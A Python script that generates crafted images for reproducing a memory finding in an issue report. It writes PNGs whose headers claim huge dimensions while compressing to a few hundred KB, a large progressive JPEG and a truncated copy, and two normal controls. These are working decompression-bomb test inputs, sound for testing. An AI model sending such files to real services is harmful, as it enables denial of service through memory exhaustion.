"""Writes the crafted files of issue 16's memory findings into a folder:
PNG headers claiming 20000x20000 gray and 10000x10000 RGBA16 (whose zero rows
compress to 389 KB and 778 KB), an 8000x8000 progressive JPEG, the same cut to
2 KB plus an end marker, and two large but acceptable images.
Usage: python3 make_files.py OUT-DIR"""
import pathlib
import struct
import sys
import zlib

import cv2
import numpy as np


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zero_png(path, width, height, depth, color_type, bytes_per_pixel):
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width * bytes_per_pixel)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
zero_png(out / "gray8-20000x20000.png", 20000, 20000, 8, 0, 1)
zero_png(out / "rgba16-10000x10000.png", 10000, 10000, 16, 6, 8)
jpeg = cv2.imencode(".jpg", np.full((8000, 8000, 3), 90, np.uint8), [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])[1].tobytes()
(out / "progressive-8000x8000.jpg").write_bytes(jpeg)
(out / "progressive-8000x8000-cut.jpg").write_bytes(jpeg[:2048] + b"\xff\xd9")
rng = np.random.default_rng(0)
cv2.imwrite(str(out / "ok-1920x1080.png"), rng.integers(0, 256, (1080, 1920, 3)).astype(np.uint8))
cv2.imwrite(str(out / "ok-3840x2160.jpg"), rng.integers(0, 256, (2160, 3840, 3)).astype(np.uint8))
